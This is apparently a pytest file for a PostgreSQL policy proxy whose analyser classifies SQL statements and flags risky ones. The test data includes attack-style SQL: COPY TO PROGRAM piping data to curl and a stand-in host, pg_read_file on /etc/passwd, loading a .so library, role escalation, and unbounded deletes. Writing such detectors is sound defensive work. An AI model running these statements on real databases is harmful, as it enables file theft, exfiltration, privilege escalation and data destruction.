"""SQL facts from PostgreSQL text (pglast): kinds, names, WHERE analysis, nesting, flags."""

from __future__ import annotations

import pytest

from wireproxy.policy.facts import FLAGS, KINDS, SqlParseError, StatementFacts, extract


def facts(sql: str) -> tuple[StatementFacts, ...]:
    return extract(sql).statements


def one(sql: str) -> StatementFacts:
    statements = facts(sql)
    assert len(statements) == 1, statements
    return statements[0]


def kinds(sql: str) -> list[str]:
    return [s.kind for s in facts(sql)]


def find(sql: str, kind: str) -> StatementFacts:
    found = [s for s in facts(sql) if s.kind == kind]
    assert found, f"no {kind} in {facts(sql)}"
    return found[0]


# ---------------------------------------------------------------------------------------------
# kinds

@pytest.mark.parametrize("sql, kind", [
    ("SELECT 1", "select"),
    ("VALUES (1), (2)", "select"),
    ("TABLE users", "select"),
    ("SELECT * INTO new_t FROM t", "create"),
    ("INSERT INTO t VALUES (1)", "insert"),
    ("UPDATE t SET a = 1 WHERE id = 2", "update"),
    ("DELETE FROM t WHERE id = 2", "delete"),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DO NOTHING", "merge"),
    ("COPY t TO STDOUT", "copy_to"),
    ("COPY (SELECT 1) TO STDOUT", "copy_to"),
    ("COPY t FROM STDIN", "copy_from"),
    ("DROP TABLE t", "drop"),
    ("DROP FUNCTION f()", "drop"),
    ("DROP ROLE bob", "drop"),
    ("DROP DATABASE d", "drop"),
    ("DROP OWNED BY bob", "drop"),
    ("TRUNCATE t", "truncate"),
    ("ALTER TABLE t ADD COLUMN c int", "alter"),
    ("ALTER TABLE t RENAME TO u", "alter"),
    ("ALTER ROLE bob LOGIN", "alter"),
    ("ALTER SYSTEM SET work_mem = '1GB'", "alter"),
    ("CREATE TABLE t (a int)", "create"),
    ("CREATE INDEX ON t (a)", "create"),
    ("CREATE VIEW v AS SELECT 1", "create"),
    ("CREATE ROLE r", "create"),
    ("CREATE EXTENSION pgcrypto", "create"),
    ("CREATE TABLE t2 AS SELECT * FROM t", "create"),
    ("GRANT SELECT ON t TO bob", "grant"),
    ("GRANT admin TO bob", "grant"),
    ("REVOKE SELECT ON t FROM bob", "revoke"),
    ("REVOKE admin FROM bob", "revoke"),
    ("DO $$ BEGIN NULL; END $$", "do"),
    ("CALL p(1)", "call"),
    ("SET work_mem = '64MB'", "set"),
    ("RESET ALL", "set"),
    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "set"),
    ("BEGIN", "transaction"),
    ("COMMIT", "transaction"),
    ("ROLLBACK TO SAVEPOINT a", "transaction"),
    ("EXPLAIN SELECT 1", "explain"),
    ("PREPARE p AS SELECT 1", "prepare"),
    ("EXECUTE p", "execute"),
    ("VACUUM t", "other"),
    ("SHOW work_mem", "other"),
    ("LISTEN ch", "other"),
    ("LOCK TABLE t", "other"),
    ("DEALLOCATE p", "other"),
])
def test_kind(sql, kind):
    assert kind in KINDS
    assert facts(sql)[0].kind == kind


def test_empty_and_comment_only_text_has_no_statements():
    assert facts("") == ()
    assert facts("  -- just a comment\n ") == ()
    assert facts(";;") == ()


def test_multi_statement_judged_statement_by_statement():
    assert kinds("SELECT 1; INSERT INTO t VALUES (1); DROP TABLE t") == ["select", "insert", "drop"]


def test_parse_error_is_the_only_exception():
    with pytest.raises(SqlParseError) as info:
        extract("DROP TABLE")
    assert not info.value.internal
    with pytest.raises(SqlParseError):
        extract("selec 1")
    with pytest.raises(SqlParseError):
        extract("select '\ud800'")  # a lone surrogate cannot be encoded
    with pytest.raises(SqlParseError):
        extract("DO $$ BEGIN x := 1; END $$")  # PL/pgSQL error: unknown variable


# ---------------------------------------------------------------------------------------------
# names

@pytest.mark.parametrize("sql", [
    "DROP TABLE users",
    "DROP TABLE USERS",
    'DROP TABLE "users"',
    'DROP TABLE U&"\\0075sers"',
    'DROP TABLE U&"!0075sers" UESCAPE \'!\'',
    "drop /* a */ table /* b */ UsErS",
])
def test_table_names_are_folded_like_postgres(sql):
    assert one(sql).targets == {"users"}


def test_quoted_mixed_case_stays_distinct():
    assert one('DROP TABLE "Users"').targets == {"Users"}


def test_schema_qualified_and_catalog_names():
    assert one("DROP TABLE Public.Users").targets == {"public.users"}
    assert one("DROP TABLE mydb.public.users").targets == {"public.users"}
    assert one("SELECT * FROM db.s.t").tables == {"s.t"}


def test_targets_versus_tables():
    st = one("DELETE FROM logs WHERE uid IN (SELECT id FROM users)")
    assert st.targets == {"logs"}
    assert st.tables == {"logs", "users"}
    st = one("INSERT INTO archive SELECT * FROM orders JOIN items USING (id)")
    assert st.targets == {"archive"}
    assert st.tables == {"archive", "orders", "items"}
    assert one("SELECT * FROM a, b.c").targets == frozenset()
    assert one("TRUNCATE a, ONLY b").targets == {"a", "b"}
    assert one("GRANT SELECT ON a, s.b TO bob").targets == {"a", "s.b"}
    assert one("ALTER TABLE t ADD c int").targets == {"t"}
    assert one("CREATE INDEX i ON t (a)").targets == {"t"}
    assert one("COPY t FROM STDIN").targets == {"t"}
    assert one("COPY t TO STDOUT").targets == frozenset()


def test_cte_names_are_not_tables_but_shadowing_is_scoped():
    assert one("WITH d AS (SELECT 1) SELECT * FROM d").tables == frozenset()
    # a non-recursive CTE cannot see itself: the inner `users` is the real table
    assert one("WITH users AS (SELECT * FROM users) SELECT * FROM users").tables == {"users"}
    # a CTE named like a table in a subquery does not hide the outer real table
    assert "users" in one("SELECT * FROM users, (WITH users AS (SELECT 1) SELECT * FROM users) x").tables
    assert one("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r").tables == frozenset()
    assert one("WITH d AS (SELECT 1) SELECT * FROM public.d").tables == {"public.d"}


@pytest.mark.parametrize("sql, name", [
    ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
    ("select PG_READ_FILE('x')", "pg_read_file"),
    ("select pg_catalog.pg_read_file('x')", "pg_catalog.pg_read_file"),
    ("select PG_CATALOG.PG_READ_FILE('x')", "pg_catalog.pg_read_file"),
    ('select "pg_catalog"."pg_read_file"(\'x\')', "pg_catalog.pg_read_file"),
    ('select U&"pg\\005fread\\005ffile"(\'x\')', "pg_read_file"),
    ("select * from pg_ls_dir('.')", "pg_ls_dir"),
    ("select (select lo_export(1, 'x'))", "lo_export"),
    ("select 1 where exists (select pg_stat_file('x'))", "pg_stat_file"),
    ("insert into t values (pg_read_file('x'))", "pg_read_file"),
    ("update t set a = pg_read_file('x') where id = 1", "pg_read_file"),
    ("CALL myproc(1)", "myproc"),
    ("select x from t order by lo_get(1)", "lo_get"),
    ("select * from t, lateral pg_ls_waldir() w", "pg_ls_waldir"),
    ("CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION evil()", "evil"),
    ("CREATE OPERATOR === (FUNCTION = pg_read_file, LEFTARG = text)", "pg_read_file"),
    ("EXPLAIN SELECT pg_read_file('x')", "pg_read_file"),
    ("CREATE VIEW v AS SELECT pg_read_file('x')", "pg_read_file"),
    ("CREATE TABLE t (a text DEFAULT pg_read_file('x'))", "pg_read_file"),
])
def test_functions_called(sql, name):
    assert any(name in s.functions for s in facts(sql))


def test_strings_and_comments_are_not_functions_or_statements():
    st = one("SELECT 'pg_read_file(1)', $$DROP TABLE users$$ -- drop table users\n /* lo_export() */")
    assert st.kind == "select"
    assert st.functions == frozenset()
    assert st.tables == frozenset()


def test_roles():
    assert one("GRANT SELECT ON t TO PUBLIC").roles == {"public"}
    assert one('GRANT SELECT ON t TO "public"').roles == {"public"}
    assert one("GRANT SELECT ON t TO PuBlIc, Bob").roles == {"public", "bob"}
    assert one('GRANT SELECT ON t TO "Bob"').roles == {"Bob"}
    assert one("GRANT SELECT ON t TO CURRENT_USER").roles == {"current_user"}
    assert one("GRANT pg_read_server_files TO alice").roles == {"pg_read_server_files", "alice"}
    assert one("ALTER ROLE bob WITH PASSWORD 'x'").roles == {"bob"}
    assert one("CREATE ROLE r IN ROLE admin").roles == {"r", "admin"}
    assert one("REVOKE ALL ON t FROM public").roles == {"public"}
    nested = facts("ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO PUBLIC")
    assert [s.kind for s in nested] == ["alter", "grant"]
    assert nested[1].roles == {"public"}


# ---------------------------------------------------------------------------------------------
# WHERE analysis

@pytest.mark.parametrize("sql", [
    "DELETE FROM t",
    "UPDATE t SET a = 1",
    "DELETE FROM ONLY t",
])
def test_no_where(sql):
    st = one(sql)
    assert not st.has_where and st.unbounded


@pytest.mark.parametrize("where", [
    "true", "TRUE", "1=1", "1 = 1", "'t'", "'yes'", "'on'", "'1'", "'t'::boolean", "1::bool",
    "CAST('true' AS boolean)", "NOT false", "1 < 2", "2 >= 2", "'a' = 'a'", "'a' <> 'b'", "-1 < 0",
    "1 + 1 = 2", "true OR false", "NOT (1 = 2)", "(true)", "((1=1))", "true IS TRUE", "null IS NULL",
    "id = id", "t.id = id", "public.t.id = t.id", "id >= id", "id <= id",
    "id IS NOT DISTINCT FROM id", "x OR true", "id = 5 OR true", "true OR id = 5", "id = 5 OR 1=1",
    "NOT (id <> id)", "NOT NOT true", "(id = id) IS TRUE", "(id = id) IS NOT FALSE",
    "id IS NULL OR id IS NOT NULL", "flag OR NOT flag", "id IN (1, id)", "name LIKE '%'",
    "name ILIKE '%%'", "name ~ '.*'", "id = id AND true", "id = id AND id = id",
    "$1", "$1::bool", "id = 5 OR $2", "now() > '2000-01-01'", "random() < 2", "(SELECT true)",
    "EXISTS (SELECT 1)", "EXISTS (SELECT 1 FROM u WHERE u.flag)", "current_user = 'bob'",
    "E'\\x74' = 't'", "$$a$$ = 'a'", "'a' || 'b' = 'ab'", "coalesce(null, true)",
    "(id = id) = true", "true = (id = id)", "(id <> id) = false", "(id <> id) <> true", "(id = id) = 't'",
])
def test_tautological_where(where):
    st = one(f"DELETE FROM t WHERE {where}")
    assert st.has_where and st.tautological_where and st.unbounded, where
    st = one(f"UPDATE t SET a = 1 WHERE {where}")
    assert st.unbounded, where


@pytest.mark.parametrize("where", [
    "id = 5", "id = $1", "id IN (1, 2, 3)", "id > 10 AND id < 20", "created < now() - interval '1 day'",
    "name LIKE 'a%'", "id = 5 AND true", "id = 5 OR false", "id = id + 1", "id <> id OR id = 3",
    "id IN (SELECT uid FROM banned)", "EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)",
    "CURRENT OF c", "1 = 2", "false", "NOT true", "null", "id = 5 AND 1 = 1", "lower(name) = 'bob'",
    "id = ANY($1)", "flag", "NOT flag", "(id = 5) IS TRUE", "t.id = 7", "(id = id) = false",
    "(id = 5) = true", "(id = id) = null",
])
def test_bounded_where(where):
    st = one(f"DELETE FROM t WHERE {where}")
    assert st.has_where and not st.tautological_where and not st.unbounded, where


def test_where_other_tables_columns_are_row_independent():
    assert one("DELETE FROM t USING u WHERE u.flag").unbounded
    assert one("DELETE FROM t USING (SELECT 1 AS one) s WHERE one = 1").unbounded
    assert one("DELETE FROM t USING (VALUES (1)) v WHERE column1 = 1").unbounded
    assert one("DELETE FROM t USING generate_series(1, 1) g WHERE g = 1").unbounded
    assert one("UPDATE t SET a = 1 FROM (SELECT 1) AS s(x) WHERE x = 1").unbounded
    assert not one("DELETE FROM t USING u WHERE u.tid = t.id").unbounded
    assert not one("UPDATE t x SET a = 1 FROM u WHERE u.tid = x.id").unbounded


def test_where_alias_qualified_self_comparison():
    assert one("UPDATE users u SET a = 1 WHERE u.id = u.id").unbounded
    assert one("DELETE FROM users AS u WHERE u.id = id").unbounded


def test_update_delete_flags_in_plpgsql_variables_are_row_independent():
    sts = facts("DO $$ DECLARE yes boolean := true; BEGIN DELETE FROM t WHERE yes; END $$")
    assert [s.kind for s in sts] == ["do", "delete"]
    assert sts[1].unbounded
    sts = facts("DO $$ DECLARE k int := 1; BEGIN DELETE FROM t WHERE id = k; END $$")
    assert not sts[1].unbounded
    sts = facts("CREATE FUNCTION f(p int) RETURNS void LANGUAGE sql AS 'DELETE FROM t WHERE p = p'")
    assert sts[1].unbounded


def test_limit():
    assert one("SELECT * FROM t LIMIT 5").has_limit
    assert one("SELECT * FROM t FETCH FIRST 3 ROWS ONLY").has_limit
    assert one("SELECT * FROM t LIMIT $1").has_limit
    assert not one("SELECT * FROM t LIMIT ALL").has_limit
    assert not one("SELECT * FROM t").has_limit
    assert not one("SELECT * FROM (SELECT * FROM t LIMIT 5) x").has_limit


# ---------------------------------------------------------------------------------------------
# nested statements

def test_data_modifying_ctes():
    sts = facts("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d")
    assert [(s.kind, s.via) for s in sts] == [("select", ""), ("delete", "WITH d")]
    assert sts[1].targets == {"users"} and sts[1].unbounded
    sts = facts("WITH a AS (UPDATE t SET x = 1 RETURNING id), b AS (INSERT INTO log SELECT id FROM a) "
                "DELETE FROM t2 WHERE id = 1")
    assert sorted(s.kind for s in sts) == ["delete", "insert", "update"]
    sts = facts("INSERT INTO log WITH d AS (DELETE FROM users RETURNING id) SELECT id FROM d")
    assert [s.kind for s in sts] == ["insert", "delete"]


@pytest.mark.parametrize("sql", [
    "EXPLAIN ANALYZE DELETE FROM users",
    "explain analyze verbose delete from users",
    "EXPLAIN ANALYSE DELETE FROM users",
    "EXPLAIN (ANALYZE) DELETE FROM users",
    "EXPLAIN (ANALYZE true) DELETE FROM users",
    "EXPLAIN (ANALYZE on) DELETE FROM users",
    "EXPLAIN (ANALYZE 1) DELETE FROM users",
    "EXPLAIN (ANALYZE 'yes') DELETE FROM users",
    "EXPLAIN (FORMAT JSON, ANALYZE, BUFFERS) DELETE FROM users",
    "EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM users",
    'EXPLAIN ("analyze") DELETE FROM users',
    "/* x */ EXPLAIN /* y */ ( /* z */ ANALYZE /* w */ ) DELETE FROM users",
])
def test_explain_analyze_executes(sql):
    sts = facts(sql)
    assert [s.kind for s in sts] == ["explain", "delete"]
    assert sts[1].via == "EXPLAIN ANALYZE" and sts[1].unbounded


@pytest.mark.parametrize("sql", [
    "EXPLAIN DELETE FROM users",
    "EXPLAIN (ANALYZE false) DELETE FROM users",
    "EXPLAIN (ANALYZE off) DELETE FROM users",
    "EXPLAIN (ANALYZE 0) DELETE FROM users",
    "EXPLAIN (VERBOSE) DELETE FROM users",
])
def test_explain_without_analyze_does_not_execute(sql):
    sts = facts(sql)
    assert [s.kind for s in sts] == ["explain"]
    assert sts[0].tables == {"users"} and sts[0].targets == frozenset()


def test_prepare_carries_the_prepared_statement():
    sts = facts("PREPARE p(int) AS DELETE FROM users WHERE id = $1")
    assert [s.kind for s in sts] == ["prepare", "delete"]
    assert sts[0].name == "p" and sts[0].inner == (sts[1],)
    assert extract("PREPARE p AS SELECT 1").stateful
    assert extract("EXECUTE p(1)").stateful
    assert extract("DEALLOCATE p").stateful
    assert extract("DISCARD ALL").stateful
    assert not extract("SELECT 1").stateful
    sts = facts("PREPARE p AS SELECT pg_read_file('x')")
    assert sts[0].inner[0].functions == {"pg_read_file"}


def test_execute_and_create_table_as_execute():
    st = one("EXECUTE p(pg_read_file('x'))")
    assert st.name == "p" and st.functions == {"pg_read_file"}
    sts = facts("CREATE TABLE t AS EXECUTE p")
    assert [(s.kind, s.name) for s in sts] == [("create", None), ("execute", "p")]


def test_copy_query():
    sts = facts("COPY (DELETE FROM users RETURNING *) TO STDOUT")
    assert [s.kind for s in sts] == ["copy_to", "delete"]
    assert facts("COPY (SELECT * FROM users) TO STDOUT")[0].tables == {"users"}


def test_merge_actions():
    sts = facts("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE "
                "WHEN NOT MATCHED THEN INSERT VALUES (s.id)")
    assert [s.kind for s in sts] == ["merge", "delete", "insert"]
    assert not sts[1].unbounded
    assert facts("MERGE INTO t USING s ON true WHEN MATCHED THEN UPDATE SET a = 1")[1].unbounded
    assert facts("MERGE INTO t USING s ON t.id = t.id WHEN MATCHED THEN DELETE")[1].unbounded
    assert facts("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE")[1].unbounded
    assert not facts("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE AND t.old THEN DELETE")[1].unbounded
    assert facts("MERGE INTO t u USING s ON u.id = s.id WHEN MATCHED AND true THEN DELETE")[1].targets == {"t"}


def test_create_schema_and_rule_actions():
    sts = facts("CREATE SCHEMA s CREATE TABLE x (a int) CREATE VIEW v AS SELECT pg_ls_dir('.')")
    assert [(s.kind, s.via) for s in sts] == [("create", ""), ("create", "CREATE SCHEMA"), ("create", "CREATE SCHEMA")]
    assert "pg_ls_dir" in sts[2].functions
    sts = facts("CREATE RULE r AS ON INSERT TO t DO ALSO (DELETE FROM audit; NOTIFY ch)")
    assert [s.kind for s in sts] == ["create", "delete", "other"]
    assert sts[1].via == "CREATE RULE action" and sts[1].unbounded


def test_function_bodies():
    sts = facts("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM t; SELECT pg_read_file('x') $$")
    assert [s.kind for s in sts] == ["create", "delete"]
    assert "pg_read_file" in sts[0].functions
    sts = facts("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN TRUNCATE t; END $$")
    assert [s.kind for s in sts] == ["create", "truncate"]
    sts = facts("CREATE PROCEDURE p() BEGIN ATOMIC DELETE FROM t; INSERT INTO u VALUES (1); END")
    assert [s.kind for s in sts] == ["create", "delete", "insert"]
    sts = facts("CREATE FUNCTION f() RETURNS text RETURN pg_read_file('x')")
    assert "pg_read_file" in sts[0].functions
    sts = facts("CREATE OR REPLACE FUNCTION f(n int) RETURNS int LANGUAGE plpgsql AS 'BEGIN RETURN n + 1; END'")
    assert sts[0].flags == frozenset()


def test_do_blocks():
    sts = facts("""DO $$
        DECLARE r record; v text;
        BEGIN
            DELETE FROM t;
            v := pg_read_file('x');
            PERFORM lo_export(1, '/tmp/x');
            EXECUTE 'DROP TABLE users';
            EXECUTE 'TRUNC' || 'ATE t2';
            IF pg_ls_dir('.') IS NULL THEN RAISE NOTICE '%', v; END IF;
            FOR r IN SELECT * FROM audit LOOP END LOOP;
        END $$""")
    assert [s.kind for s in sts] == ["do", "delete", "drop", "truncate"]
    assert {"pg_read_file", "lo_export", "pg_ls_dir"} <= sts[0].functions
    assert "audit" in sts[0].tables
    assert "dynamic_sql" not in sts[0].flags
    assert sts[2].via == "DO block EXECUTE"


@pytest.mark.parametrize("body", [
    "EXECUTE 'DELETE FROM ' || tbl",
    "EXECUTE format('DROP TABLE %I', tbl)",
    "EXECUTE tbl",
    "FOR r IN EXECUTE 'SELECT * FROM ' || tbl LOOP END LOOP",
    "OPEN c FOR EXECUTE tbl",
])
def test_dynamic_sql(body):
    st = facts(f"DO $$ DECLARE tbl text := 't'; r record; c refcursor; BEGIN {body}; END $$")[0]
    assert "dynamic_sql" in st.flags
    st = facts(f"CREATE FUNCTION f(tbl text) RETURNS SETOF int LANGUAGE plpgsql AS $f$ "
               f"DECLARE r record; c refcursor; BEGIN {body}; END $f$")[0]
    assert "dynamic_sql" in st.flags


def test_return_query_execute_is_dynamic():
    st = facts("CREATE FUNCTION f(q text) RETURNS SETOF int LANGUAGE plpgsql AS $$ "
               "BEGIN RETURN QUERY EXECUTE q; END $$")[0]
    assert "dynamic_sql" in st.flags


def test_constant_execute_with_quotes_inside_dollar_quoting():
    sts = facts("DO $outer$ BEGIN EXECUTE $q$DELETE FROM t WHERE name = 'x''y' OR 1=1$q$; END $outer$")
    assert sts[1].kind == "delete" and sts[1].unbounded
    sts = facts("DO $$ BEGIN EXECUTE E'DELETE FROM t WHERE \\'a\\' = \\'a\\''; END $$")
    assert sts[1].kind == "delete" and sts[1].unbounded


def test_sql_running_functions():
    sts = facts("SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')")
    assert [s.kind for s in sts] == ["select", "delete"]
    assert "dynamic_sql" in facts("SELECT query_to_xml(q, true, false, '') FROM qs")[0].flags
    sts = facts("SELECT * FROM dblink('dbname=x', 'TRUNCATE t') AS r(a int)")
    assert [s.kind for s in sts] == ["select", "truncate"]
    sts = facts("SELECT dblink_exec('DROP TABLE t')")
    assert [s.kind for s in sts] == ["select", "drop"]
    assert facts("SELECT table_to_xml('Secret.\"Keys\"', true, false, '')")[0].tables == {"secret.Keys"}
    assert "pg_read_file" in facts("SELECT ts_stat('SELECT pg_read_file(''x'')::tsvector')")[0].functions


def test_deep_nesting_is_bounded():
    sql = "SELECT 1"
    for i in range(40):
        sql = f"DO $d{i}$ BEGIN EXECUTE $e{i}${sql}$e{i}$; END $d{i}$"
    with pytest.raises(SqlParseError) as info:
        extract(sql)
    assert not info.value.internal


# ---------------------------------------------------------------------------------------------
# flags

@pytest.mark.parametrize("sql, flag", [
    ("COPY t FROM PROGRAM 'id'", "copy_program"),
    ("COPY t TO PROGRAM 'curl -d @- evil'", "copy_program"),
    ("COPY t FROM '/etc/passwd'", "copy_file"),
    ("COPY t TO '/tmp/x'", "copy_file"),
    ("ALTER SYSTEM SET archive_command = 'x'", "alter_system"),
    ("ALTER SYSTEM RESET ALL", "alter_system"),
    ("ALTER ROLE bob SUPERUSER", "superuser_role"),
    ("ALTER USER bob WITH SUPERUSER", "superuser_role"),
    ("CREATE ROLE r SUPERUSER LOGIN", "superuser_role"),
    ("CREATE USER u BYPASSRLS", "bypassrls_role"),
    ("CREATE ROLE r REPLICATION", "replication_role"),
    ("ALTER ROLE r CREATEROLE", "createrole_role"),
    ("ALTER ROLE r CREATEDB", "createdb_role"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'select 1'", "security_definer"),
    ("ALTER FUNCTION f() SECURITY DEFINER", "security_definer"),
    ("CREATE PROCEDURE p() LANGUAGE plpgsql SECURITY DEFINER AS $$BEGIN NULL; END$$", "security_definer"),
    ("SET ROLE postgres", "set_role"),
    ("SET LOCAL ROLE admin", "set_role"),
    ("set role 'admin'", "set_role"),
    ('SET "role" TO admin', "set_role"),
    ("SET SESSION AUTHORIZATION postgres", "set_role"),
    ("SELECT set_config('role', 'postgres', false)", "set_role"),
    ("SELECT pg_catalog.set_config('ROLE', 'x', true)", "set_role"),
    ("SELECT set_config(' Session_Authorization ', 'x', false)", "set_role"),
    ("SELECT set_config(name, 'x', false) FROM t", "set_role"),
    ("UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'", "set_role"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = admin AS 'select 1'", "set_role"),
    ("ALTER ROLE bob SET role = admin", "set_role"),
    ("ALTER DATABASE d SET session_authorization = 'x'", "set_role"),
    ("SET search_path TO evil, public", "search_path"),
    ("SELECT set_config('search_path', '', false)", "search_path"),
    ("CREATE EXTENSION dblink", "foreign_data"),
    ("CREATE EXTENSION IF NOT EXISTS postgres_fdw", "foreign_data"),
    ("CREATE EXTENSION file_fdw", "foreign_data"),
    ("CREATE FOREIGN DATA WRAPPER w", "foreign_data"),
    ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", "foreign_data"),
    ("CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'x')", "foreign_data"),
    ("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local", "foreign_data"),
    ("CREATE FOREIGN TABLE ft (a int) SERVER s", "foreign_data"),
    ("CREATE SUBSCRIPTION sub CONNECTION 'host=x' PUBLICATION p", "foreign_data"),
    ("DO LANGUAGE plpython3u $$ import os $$", "opaque_code"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/x.so', 'f'", "opaque_code"),
    ("CREATE FUNCTION f(text) RETURNS text LANGUAGE internal AS 'pg_read_file_off_len'", "opaque_code"),
    ("LOAD '/tmp/evil.so'", "load_library"),
    ("ALTER TABLE t DROP COLUMN c", "drop_column"),
    ("DEALLOCATE ALL", "deallocate"),
])
def test_flags(sql, flag):
    assert flag in FLAGS
    assert any(flag in s.flags for s in facts(sql)), facts(sql)


@pytest.mark.parametrize("sql", [
    "RESET ROLE", "SET ROLE NONE", "RESET SESSION AUTHORIZATION", "SET SESSION AUTHORIZATION DEFAULT",
    "SET work_mem = '1GB'", "SELECT set_config('work_mem', '1GB', false)", "ALTER ROLE r NOSUPERUSER",
    "CREATE ROLE r LOGIN NOBYPASSRLS", "ALTER FUNCTION f() SECURITY INVOKER", "COPY t FROM STDIN",
    "COPY t TO STDOUT", "CREATE EXTENSION pgcrypto", "DO $$ BEGIN NULL; END $$",
    "CREATE TEMP TABLE tmp (a int) ON COMMIT DROP", "ALTER TABLE t ADD COLUMN drop_date date",
    "SELECT current_setting('role')",
])
def test_no_flags(sql):
    assert all(not s.flags for s in facts(sql)), facts(sql)


def test_to_dict_is_plain():
    d = facts("DELETE FROM t WHERE 1=1")[0].to_dict()
    assert d == {"kind": "delete", "tables": ["t"], "targets": ["t"], "where": "tautology"}
